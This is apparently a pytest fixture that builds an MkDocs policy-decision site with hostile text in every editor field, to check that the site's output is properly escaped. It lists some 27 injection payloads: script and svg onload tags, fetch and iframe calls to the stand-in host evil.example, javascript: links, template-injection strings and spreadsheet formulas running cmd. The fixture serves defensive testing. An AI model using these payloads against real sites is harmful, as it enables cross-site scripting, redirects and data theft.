"""One site built with hostile editor text in every field that reaches a page.

Each payload carries a unique marker (``inj01``…) and, where it points anywhere, the host
``evil.example``, so the checks stay generic: no tag, attribute or attribute value in the
built HTML may carry a marker or that host, whatever the payload tried.

The site is a temporary copy of the project (without .venv, node_modules, .git and the
built site) with the payload records in ``decisions/`` (read through BESLUITEN_MAP), the
payload activities in the agenda 2022 and payload names in the regiovisie goals. The copy
is a git repository with one commit, so the feed lists the payload records too. It is built
once per test process (``payload_site()`` is cached), for the browser and the build tests.
"""

from __future__ import annotations

import atexit
import functools
import os
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

import yaml

from tests.siteserver import free_port

ROOT = Path(__file__).resolve().parents[2]
HOST = "evil.example"
# The file a snippet include would pull in: its text must never reach the site.
SNIPPET_FILE = "inj-geheim.txt"
SNIPPET_SECRET = "GEHEIM-inj13-mag-nooit-op-de-site"
SUCCESSOR = "zz-2022-01"
AGENDA_YEAR = 2022
IGNORED = (".venv", "node_modules", ".git", "site", ".cache", ".pytest_cache", ".hypothesis")


@dataclass(frozen=True)
class Payload:
    marker: str
    text: str

    @property
    def record(self) -> str:
        return f"zz-2021-{self.marker[3:]}"

    @property
    def activity(self) -> str:
        return f"inj-{self.marker[3:]}"


PAYLOADS = [
    # First: the only place where editor text starts a Markdown line is the agenda's
    # toelichting, and a snippet include only works at the start of a line.
    Payload("inj13", f'--8<-- "{SNIPPET_FILE}"'),
    Payload(
        "inj01",
        'X</title><meta http-equiv="refresh" content="0;url=https://evil.example/inj01">',
    ),
    Payload("inj02", "</title><script>window.__pwned='inj02'</script>"),
    Payload("inj03", '<base href="https://evil.example/inj03/">'),
    Payload("inj04", '<script src="https://evil.example/inj04.js"></script>'),
    Payload(
        "inj05", '<img src="https://evil.example/inj05.png" onerror="window.__pwned=\'inj05\'">'
    ),
    Payload("inj06", "<svg onload=\"fetch('https://evil.example/inj06')\"></svg>"),
    Payload("inj07", "[klik inj07](javascript:window.__pwned='inj07')"),
    Payload("inj08", '"><a href="https://evil.example/inj08">inj08</a>'),
    Payload("inj09", "tekst inj09 {: onclick=\"location='https://evil.example/inj09'\" }"),
    Payload("inj10", "inj10 {{ 7*7 }} {{ config.site_url }}"),
    Payload("inj11", '{% include "mkdocs.yml" %} inj11'),
    Payload(
        "inj12",
        '&lt;/title&gt;&lt;script src="https://evil.example/inj12.js"&gt;&lt;/script&gt; '
        "&amp; inj12",
    ),
    Payload("inj14", "<https://evil.example/inj14>"),
    Payload("inj15", "<style>body{background:url(https://evil.example/inj15.png)}</style>"),
    Payload("inj16", '<iframe src="https://evil.example/inj16"></iframe>'),
    Payload("inj17", '<form action="https://evil.example/inj17"><button>inj17</button></form>'),
    Payload("inj18", "<a href=\"javascript:window.__pwned='inj18'\">inj18</a>"),
    Payload("inj19", "'\"><svg/onload=window.__pwned='inj19'>"),
    Payload("inj20", "![inj20](https://evil.example/inj20.png)"),
    Payload("inj21", '" http-equiv="refresh" content="0;url=https://evil.example/inj21'),
    Payload(
        "inj22", "`inj22` <!-- https://evil.example/inj22 --> *inj22* [inj22]: https://evil.example"
    ),
    Payload("inj23", '=HYPERLINK("https://evil.example/inj23";"klik")'),
    Payload("inj24", "@SUM(1+1)*cmd|' /C calc'!A0 inj24"),
    Payload("inj25", "+31 6 12345678 inj25"),
    Payload("inj26", "-2+3+cmd|' /C calc'!A0 inj26"),
    Payload("inj27", "{# inj27 #}{%- raw %}{{ inj27 }}{% endraw %}"),
]
MARKERS = [p.marker for p in PAYLOADS]

# Regiovisie names (doelen.yaml) that pages and filter labels embed.
AMBITION_PAYLOADS = {1: "inj02", 2: "inj08", 3: "inj10", 4: "inj12", 5: "inj21", 6: "inj19"}
GOAL_PAYLOADS = {"1.1": "inj01", "1.2": "inj15", "2.1": "inj11"}


def by_marker(marker: str) -> Payload:
    return next(p for p in PAYLOADS if p.marker == marker)


@dataclass(frozen=True)
class PayloadSite:
    project: Path  # the temporary copy of the project
    site: Path  # the built site (empty when the build failed)
    site_url: str
    port: int
    result: subprocess.CompletedProcess


def _record(payload: Payload, number: int) -> str:
    text = payload.text
    meta = {
        "id": payload.record,
        "nummer": number,
        "titel": text,
        "status": "vervangen",
        "datum": "2021",
        "besluitvormers": [text],
        "geraadpleegd": [text],
        "geinformeerd": [text],
        "regio": text,
        "bron": {"document": text, "hoofdstuk": text},
        "opvolgers": [SUCCESSOR],
        "opvolging": "gedeeltelijk",
        "opvolging_toelichting": text,
        "ambities": [1],
    }
    front = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False)
    return f"---\n{front}---\n\n## Besluit\n\nEen testbesluit met vijandige velden.\n"


def _successor() -> str:
    meta = {
        "id": SUCCESSOR,
        "nummer": 1,
        "titel": "Opvolger van de testbesluiten",
        "status": "vastgesteld",
        "datum": "2022",
        "besluitvormers": ["de testredactie"],
        "regio": "Noord- en Midden-Limburg",
        "bron": {"document": "Testdocument", "hoofdstuk": "punt 1"},
        "voorgangers": [p.record for p in PAYLOADS],
        "ambities": [1],
    }
    front = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False)
    return f"---\n{front}---\n\n## Besluit\n\nNeemt de testbesluiten over.\n"


def write_records(decisions: Path) -> None:
    for number, payload in enumerate(PAYLOADS, start=1):
        (decisions / f"{payload.record}.md").write_text(_record(payload, number), "utf-8")
    (decisions / f"{SUCCESSOR}.md").write_text(_successor(), "utf-8")


def _activity(payload: Payload) -> dict:
    text = payload.text
    return {
        "id": payload.activity,
        "titel": text,
        "ambitie": 1,
        "doel": "1.1",
        "schaal": ["regionaal"],
        "trekker": text,
        "planning": str(AGENDA_YEAR),
        "budget": 1000,
        "status": "gepland",
        "omschrijving": text,
        "financiering": text,
        "voortgang": text,
        "bron": text,
    }


def write_agenda(agenda_file: Path) -> None:
    data = yaml.safe_load(agenda_file.read_text(encoding="utf-8"))
    data["toelichting"] = "\n".join(p.text for p in PAYLOADS)
    data["activiteiten"] += [_activity(p) for p in PAYLOADS]
    agenda_file.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")


def write_goals(goals_file: Path) -> None:
    data = yaml.safe_load(goals_file.read_text(encoding="utf-8"))
    for ambition in data["ambities"]:
        marker = AMBITION_PAYLOADS.get(ambition["nummer"])
        if marker:
            ambition["naam"] = by_marker(marker).text
            ambition["samenvatting"] = by_marker(marker).text
        for goal in ambition["doelen"]:
            marker = GOAL_PAYLOADS.get(f"{ambition['nummer']}.{goal['nummer']}")
            if marker:
                goal["naam"] = by_marker(marker).text
                goal["omschrijving"] = by_marker(marker).text
    goals_file.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")


def make_project(target: Path) -> Path:
    """A copy of the project with every payload in place, committed in its own git repo."""
    shutil.copytree(ROOT, target, ignore=shutil.ignore_patterns(*IGNORED), symlinks=True)
    (target / "node_modules").symlink_to(ROOT / "node_modules")
    # The Pyodide dist is cached per content hash; reusing it keeps this build short.
    cached = ROOT / ".cache" / "pyodide-dist"
    if cached.is_dir():
        shutil.copytree(cached, target / ".cache" / "pyodide-dist")
    (target / SNIPPET_FILE).write_text(SNIPPET_SECRET + "\n", encoding="utf-8")
    write_records(target / "decisions")
    write_agenda(target / "docs" / "beleidsagenda" / f"{AGENDA_YEAR}.yaml")
    write_goals(target / "docs" / "regiovisie" / "doelen.yaml")
    git = ["git", "-c", "user.name=Test", "-c", "user.email=test@example.invalid"]
    git += ["-c", "commit.gpgsign=false"]
    for command in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "Vijandige invoer"]):
        subprocess.run(git + command, cwd=target, check=True, capture_output=True)
    return target


def build(project: Path, site: Path, site_url: str) -> subprocess.CompletedProcess:
    env = {
        **os.environ,
        "NO_MKDOCS_2_WARNING": "1",
        "SITE_URL": site_url,
        "BESLUITEN_MAP": str(project / "decisions"),
    }
    command = [sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(site)]
    return subprocess.run(
        command, cwd=project, capture_output=True, text=True, env=env, check=False
    )


@functools.cache
def payload_site() -> PayloadSite:
    """Built once per test process; removed when the process ends."""
    base = Path(tempfile.mkdtemp(prefix="payload-site-"))
    atexit.register(shutil.rmtree, base, ignore_errors=True)
    port = free_port()
    site_url = f"http://127.0.0.1:{port}/"
    project = make_project(base / "project")
    result = build(project, base / "site", site_url)
    return PayloadSite(project, base / "site", site_url, port, result)
